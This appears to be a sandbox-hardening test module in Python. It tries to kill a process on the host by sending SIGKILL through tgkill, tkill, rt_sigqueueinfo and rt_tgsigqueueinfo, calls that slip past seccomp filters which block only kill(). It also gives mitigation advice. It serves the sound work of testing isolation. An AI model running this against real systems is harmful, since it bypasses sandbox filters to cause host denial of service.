# title: Kill by the rarer calls for signals
# tries: Sends SIGKILL to a process of the host by tkill, tgkill, rt_sigqueueinfo and rt_tgsigqueueinfo, which filters that know only kill forget.
# impact: HostDoS
# proof: ended
# host: run
# advice: Run the code in a pid namespace of its own; in seccomp, let these calls pass for the own process only.

CALLS = {
    "x86_64": {"tgkill": 234, "tkill": 200, "rt_sigqueueinfo": 129, "rt_tgsigqueueinfo": 297},
    "aarch64": {"tgkill": 131, "tkill": 130, "rt_sigqueueinfo": 138, "rt_tgsigqueueinfo": 240},
}


def attempt(host):
    import ctypes
    import os
    import platform
    import signal

    pid, kill = host["pid"], int(signal.SIGKILL)
    # The kernel takes only information with a negative code, "sent by sigqueue", from a program.
    information = ctypes.create_string_buffer(128)
    information[8:12] = (-1).to_bytes(4, "little", signed=True)
    arguments = {
        "tgkill": (pid, pid, kill),
        "tkill": (pid, kill),
        "rt_sigqueueinfo": (pid, kill, information),
        "rt_tgsigqueueinfo": (pid, pid, kill, information),
    }
    libc = ctypes.CDLL(None, use_errno=True)
    for name, number in CALLS[platform.machine()].items():
        if libc.syscall(ctypes.c_long(number), *arguments[name]) == 0:
            return name + " sent the signal"
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
